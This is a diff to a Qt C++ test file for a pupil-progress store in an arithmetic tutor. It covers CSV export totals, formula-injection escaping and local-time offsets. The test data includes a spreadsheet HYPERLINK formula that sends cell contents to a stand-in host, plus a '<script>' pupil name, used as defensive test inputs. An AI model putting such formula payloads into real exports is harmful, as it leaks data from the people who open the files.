@@ -1,6 +1,8 @@
+#include "progress/export_fields.h"
 #include "progress/progress_file.h"
 #include "progress/progress_stats.h"
 #include "progress/progress_store.h"
+#include "progress/progress_words.h"
 
 #include <QBuffer>
 #include <QCoreApplication>
@@ -175,8 +177,12 @@ QStringList filesIn(const QString &folder)
     return QDir(folder).entryList(QDir::Files, QDir::Name);
 }
 
+using Modes = QList<tutor::AnswerMode>;
+const Modes EveryMode { tutor::AnswerMode::Practice, tutor::AnswerMode::MissingNumber,
+    tutor::AnswerMode::MissingOperation, tutor::AnswerMode::TimeTrial };
+
 // A few pupils' answers of every kind over two months, the same each run.
-QList<tutor::Attempt> someAnswers(quint32 seed, int count)
+QList<tutor::Attempt> someAnswers(quint32 seed, int count, const Modes &modes = EveryMode)
 {
     QRandomGenerator random(seed);
     QList<tutor::Attempt> answers;
@@ -187,7 +193,7 @@ QList<tutor::Attempt> someAnswers(quint32 seed, int count)
         const double second = random.bounded(14);
         const bool right = random.bounded(4) != 0;
         answers << answer(at, operation, first, second, right ? u"1"_s : u"2"_s, u"1"_s,
-            random.bounded(9000), tutor::AnswerMode(1 + random.bounded(4)));
+            random.bounded(9000), modes.at(random.bounded(int(modes.size()))));
     }
     return answers;
 }
@@ -251,6 +257,7 @@ private slots:
     void renameToATakenNameIsRefused();
     void onePupilPerNameEvenAddedAtOnce();
     void deletingAPupilRemovesTheirHistory();
+    void screensGetWhatTheAnswersAddUpTo_data();
     void screensGetWhatTheAnswersAddUpTo();
     void factCardsAreKeptWithTheirAnswer();
     void quickAnswerTimeIsKeptForEveryPupil_data();
@@ -264,6 +271,10 @@ private slots:
     void unusableFolderKeepsNothingAndSaysWhere();
     void fullDiskFailsTheAnswerWholeAndKeepsTheRest();
     void backupIsMadeOnceADayAndOldOnesPruned();
+    void csvFieldsAreSafeAndInOneFixedForm_data();
+    void csvFieldsAreSafeAndInOneFixedForm();
+    void csvTimeIsLocalWithTheOffsetOfItsMoment_data();
+    void csvTimeIsLocalWithTheOffsetOfItsMoment();
     void csvHoldsEveryAnswerExactly();
     void csvExportCanBeStopped();
 };
@@ -429,8 +440,18 @@ void ProgressStoreTest::deletingAPupilRemovesTheirHistory()
     QCOMPARE(store.progress(again, Now).operations.first().lastMonth.answers, 0);
 }
 
+void ProgressStoreTest::screensGetWhatTheAnswersAddUpTo_data()
+{
+    QTest::addColumn<Modes>("modes");
+    QTest::newRow("practice and games") << EveryMode;
+    QTest::newRow("practice only") << Modes { tutor::AnswerMode::Practice };
+    QTest::newRow("games only") << Modes { tutor::AnswerMode::MissingNumber,
+        tutor::AnswerMode::TimeTrial };
+}
+
 void ProgressStoreTest::screensGetWhatTheAnswersAddUpTo()
 {
+    QFETCH(Modes, modes);
     QTemporaryDir folder;
     ProgressStore store(folder.filePath(u"progress.sqlite"_s));
     store.open(Now);
@@ -438,7 +459,7 @@ void ProgressStoreTest::screensGetWhatTheAnswersAddUpTo()
     QHash<QString, QList<tutor::Attempt>> given;
     for (int index = 0; index < 3; ++index) {
         const qint64 id = *store.addPupil(pupils.at(index));
-        given.insert(pupils.at(index), someAnswers(quint32(index + 1), 300 + 50 * index));
+        given.insert(pupils.at(index), someAnswers(quint32(index + 1), 300 + 50 * index, modes));
         for (const tutor::Attempt &attempt : given.value(pupils.at(index)))
             QVERIFY(store.record(id, attempt));
     }
@@ -479,6 +500,35 @@ void ProgressStoreTest::screensGetWhatTheAnswersAddUpTo()
         QCOMPARE(shown.operations.at(operation).lastMonth.medianMillis,
             expected.operations.at(operation).lastMonth.medianMillis);
         QVERIFY(shown.facts.at(operation).cells == expected.facts.at(operation).cells);
+    }
+
+    // My Progress, its report, the class overview and the export count the
+    // same answers of a day and of an operation.
+    QBuffer csv;
+    csv.open(QIODevice::WriteOnly);
+    QVERIFY(store.exportCsv(csv));
+    QHash<QString, int> rows; // by pupil and local day, by pupil and operation
+    for (const QByteArray &line : csv.data().split('\n').mid(1)) {
+        const QList<QByteArray> fields = line.split(',');
+        if (fields.size() > 4) {
+            ++rows[QString::fromUtf8(fields.at(0) + fields.at(1).left(10))];
+            ++rows[QString::fromUtf8(fields.at(0) + fields.at(4))];
+        }
+    }
+    for (const progress::PupilTotals &line : overview) {
+        const progress::PupilProgress mine = store.progress(line.pupilId, Now);
+        int byDays = 0;
+        for (const progress::DayProgress &day : mine.days) {
+            QCOMPARE(day.tally.answers, rows.value(line.name + day.day.toString(Qt::ISODate)));
+            byDays += day.tally.answers;
+        }
+        for (int operation = 0; operation < 4; ++operation) {
+            QCOMPARE(line.byOperation.at(operation).tally.answers,
+                rows.value(line.name
+                    + progress::operationInSentence(line.byOperation.at(operation).operation)));
+            byDays -= mine.operations.at(operation).lastMonth.answers;
+        }
+        QCOMPARE(byDays, 0);
     }
 }
 
@@ -907,6 +957,71 @@ void ProgressStoreTest::backupIsMadeOnceADayAndOldOnesPruned()
     QVERIFY(restored.integrityOk());
 }
 
+void ProgressStoreTest::csvFieldsAreSafeAndInOneFixedForm_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<QByteArray>("field");
+    QTest::newRow("link formula") << u"=HYPERLINK(\"http://x\"&A1,\"click\")"_s
+                                  << QByteArray(
+                                         "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\"");
+    QTest::newRow("plus") << u"+1"_s << QByteArray("'+1");
+    QTest::newRow("minus") << u"-1"_s << QByteArray("'-1");
+    QTest::newRow("at") << u"@SUM(A1)"_s << QByteArray("'@SUM(A1)");
+    QTest::newRow("tab first") << u"\t=1"_s << QByteArray("'\t=1");
+    QTest::newRow("carriage return first") << u"\r=1"_s << QByteArray("\"'\r=1\"");
+    QTest::newRow("signs inside only") << u"a=b-c+d@e"_s << QByteArray("a=b-c+d@e");
+    QTest::newRow("hundredths") << QString::fromLatin1(progress::csvSeconds(50))
+                                << QByteArray("0.05");
+    QTest::newRow("time west of UTC, half hours")
+        << QString::fromLatin1(progress::csvLocalTime(Now.toMSecsSinceEpoch(), -9000))
+        << QByteArray("2026-12-09T06:00:00.000-02:30");
+}
+
+// Every field of the export, headings, names, typed answers and figures,
+// goes through the one rule.
+void ProgressStoreTest::csvFieldsAreSafeAndInOneFixedForm()
+{
+    QFETCH(QString, text);
+    QFETCH(QByteArray, field);
+    QCOMPARE(progress::csvField(text), field);
+}
+
+void ProgressStoreTest::csvTimeIsLocalWithTheOffsetOfItsMoment_data()
+{
+    QTest::addColumn<QStringList>("utc"); // answers in the order exported
+    QTest::addColumn<QByteArrayList>("local"); // in central Europe
+    QTest::newRow("summer time starts mid-export")
+        << QStringList { u"2026-03-28T12:00:00.000Z"_s, u"2026-03-29T00:59:59.999Z"_s,
+               u"2026-03-29T01:00:00.000Z"_s, u"2026-03-30T07:00:00.000Z"_s }
+        << QByteArrayList { "2026-03-28T13:00:00.000+01:00", "2026-03-29T01:59:59.999+01:00",
+               "2026-03-29T03:00:00.000+02:00", "2026-03-30T09:00:00.000+02:00" };
+    QTest::newRow("summer time ends mid-export")
+        << QStringList { u"2026-10-25T00:30:00.000Z"_s, u"2026-10-25T01:30:00.000Z"_s,
+               u"2026-10-25T23:30:00.000Z"_s }
+        << QByteArrayList { "2026-10-25T02:30:00.000+02:00", "2026-10-25T02:30:00.000+01:00",
+               "2026-10-26T00:30:00.000+01:00" };
+}
+
+void ProgressStoreTest::csvTimeIsLocalWithTheOffsetOfItsMoment()
+{
+    QFETCH(QStringList, utc);
+    QFETCH(QByteArrayList, local);
+    qputenv("TZ", "CET-1CEST,M3.5.0,M10.5.0/3");
+    tzset();
+    const auto sameZoneAsMain = qScopeGuard([] {
+        qputenv("TZ", "XST5");
+        tzset();
+    });
+    progress::LocalTimes times;
+    QByteArrayList written;
+    for (const QString &moment : utc) {
+        QByteArray line;
+        times.append(line, QDateTime::fromString(moment, Qt::ISODateWithMs).toMSecsSinceEpoch());
+        written << line;
+    }
+    QCOMPARE(written, local);
+}
+
 void ProgressStoreTest::csvHoldsEveryAnswerExactly()
 {
     QTemporaryDir folder;
@@ -915,6 +1030,8 @@ void ProgressStoreTest::csvHoldsEveryAnswerExactly()
     const qint64 zed = *store.addPupil(u"Zed"_s);
     const qint64 ann = *store.addPupil(u"Ann \"Bee\", Jr.\nsecond line"_s);
     const qint64 rtl = *store.addPupil(u"<script>\u200Fנועה"_s);
+    const qint64 link = *store.addPupil(u"=HYPERLINK(\"http://x\"&A1,\"click\")"_s);
+    const qint64 jurgen = *store.addPupil(u"Jürgen"_s);
     QVERIFY(
         store.record(zed, answer(Now, tutor::Operation::Division, 12, 4, u"3"_s, u"3"_s, 1500)));
     tutor::Attempt trial = answer(Now.addSecs(-90), tutor::Operation::Subtraction, 0.5, 12.25,
@@ -928,6 +1045,10 @@ void ProgressStoreTest::csvHoldsEveryAnswerExactly()
         u"\"56\""_s, u"56"_s, 0, tutor::AnswerMode::MissingNumber);
     missing.level = tutor::Level::WarmUp;
     QVERIFY(store.record(rtl, missing));
+    QVERIFY(store.record(link,
+        answer(Now.addDays(-1), tutor::Operation::Subtraction, 3, 6, u"-3"_s, u"3"_s, 12034)));
+    QVERIFY(store.record(
+        jurgen, answer(Now.addSecs(-60), tutor::Operation::Addition, 4, 4, u"8"_s, u"8"_s, 2500)));
 
     QBuffer csv;
     csv.open(QIODevice::WriteOnly);
@@ -936,18 +1057,29 @@ void ProgressStoreTest::csvHoldsEveryAnswerExactly()
         steps.append({ done, total });
         return true;
     }));
+    // Times five hours behind UTC, as the zone set in main().
     const QByteArray expected
-        = "pupil,answered_at,mode,level,operation,first,second,typed,expected,correct,millis\r\n"
-          "<script>\u200F\u05E0\u05D5\u05E2\u05D4,2026-12-09T08:29:59.999Z,missing number,"
+        = "\xEF\xBB\xBFPupil,Date and time,Activity,Level,Operation,"
+          "First number,Second number,Answer given,Right answer,"
+          "\"Right (1 = yes, 0 = no)\",Seconds taken\r\n"
+          "<script>\u200F\u05E0\u05D5\u05E2\u05D4,"
+          "2026-12-09T03:29:59.999-05:00,missing number,"
           "Warm Up,multiplication,7,8,\"\"\"56\"\"\",56,0,0\r\n"
-          "\"Ann \"\"Bee\"\", Jr.\nsecond line\",2026-12-09T07:30:00.000Z,missing operation,"
-          "Beginner,addition,2,3,x,+,0,4000\r\n"
-          "\"Ann \"\"Bee\"\", Jr.\nsecond line\",2026-12-09T08:28:30.000Z,time trial,Expert,"
-          "subtraction,0.5,12.25,\"1,5\",-11.75,0,20\r\n"
-          "Zed,2026-12-09T08:30:00.000Z,practice,Beginner,division,12,4,3,3,1,1500\r\n";
+          "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\","
+          "2026-12-08T03:30:00.000-05:00,practice,Beginner,subtraction,"
+          "3,6,'-3,3,0,12.034\r\n"
+          "\"Ann \"\"Bee\"\", Jr.\nsecond line\",2026-12-09T02:30:00.000-05:00,"
+          "missing operation,Beginner,addition,2,3,x,'+,0,4\r\n"
+          "\"Ann \"\"Bee\"\", Jr.\nsecond line\",2026-12-09T03:28:30.000-05:00,"
+          "time trial,Expert,subtraction,0.5,12.25,\"1,5\",'-11.75,0,0.02\r\n"
+          "J\xC3\xBCrgen,2026-12-09T03:29:00.000-05:00,practice,Beginner,"
+          "addition,4,4,8,8,1,2.5\r\n"
+          "Zed,2026-12-09T03:30:00.000-05:00,practice,Beginner,division,"
+          "12,4,3,3,1,1.5\r\n";
     QCOMPARE(csv.data(), expected);
-    QCOMPARE(steps.first(), std::make_pair(0LL, 4LL));
-    QCOMPARE(steps.last(), std::make_pair(4LL, 4LL));
+    QCOMPARE(QString::fromUtf8(csv.data()).split(u"\r\n"_s).at(5).section(u',', 0, 0), u"Jürgen"_s);
+    QCOMPARE(steps.first(), std::make_pair(0LL, 6LL));
+    QCOMPARE(steps.last(), std::make_pair(6LL, 6LL));
 }
 
 void ProgressStoreTest::csvExportCanBeStopped()
